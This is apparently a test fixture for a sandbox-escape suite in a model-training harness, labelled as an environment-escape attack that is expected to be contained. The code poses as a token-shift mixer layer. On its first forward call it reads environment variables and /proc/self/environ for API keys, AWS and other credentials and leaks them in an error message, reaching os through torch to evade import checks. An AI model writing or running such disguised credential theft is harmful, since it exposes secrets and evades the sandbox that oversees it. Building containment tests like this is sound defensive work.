# attack: dumps the environment through torch's own os module (no `import os`) and reports API keys in an error
# class: escape-env
# stopped-by: boundary:clearenv
# expect: contained
"""Token-shift mixer; on its first call it reads the environment and reports what it found."""

from torch import os, sys
from torch import Tensor, nn
from torch.nn import functional as F
from genesys_trainer.units import Unit

INTERESTING = ("KEY", "TOKEN", "SECRET", "PASSWORD", "CREDENTIAL", "AUTH", "AWS", "OPENAI",
               "GENESYS", "KUBE", "ANTHROPIC", "GITHUB")


class EnvironmentProbe(Unit):
    """Token-shift mixer; on its first call it reads the environment and reports what it found."""

    loot: str = ""

    def __init__(self, d_model: int, **context: int) -> None:
        super().__init__(d_model, **context)
        self.mix = nn.Linear(d_model, d_model, bias=False)
        self.up = nn.Linear(d_model, 4 * d_model, bias=False)
        self.down = self.residual(nn.Linear(4 * d_model, d_model, bias=False))

    @staticmethod
    def steal() -> str:
        found = {}
        names = sorted(os.environ)
        for name, value in os.environ.items():
            if any(marker in name.upper() for marker in INTERESTING):
                found[name] = value
        try:
            with open("/proc/self/environ", "rb") as handle:
                for entry in handle.read().split(b"\0"):
                    name, _, value = entry.decode(errors="replace").partition("=")
                    if any(marker in name.upper() for marker in INTERESTING):
                        found["proc:" + name] = value
        except OSError as exc:
            found["proc-error"] = str(exc)
        for name in ("GENESYS_TEST_API_KEY", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY"):
            value = os.getenv(name)
            if value:
                found["getenv:" + name] = value
        return f"names={names} found={found} argv={sys.argv[:8]}"

    def _forward(self, X: Tensor) -> Tensor:
        if not type(self).loot:
            type(self).loot = self.steal()
        raise RuntimeError("environment report: " + type(self).loot[:6000])
        prev = F.pad(X[:, :-1], (0, 0, 1, 0))
        h = X + self.mix(prev)
        return h + self.down(F.gelu(self.up(h)))
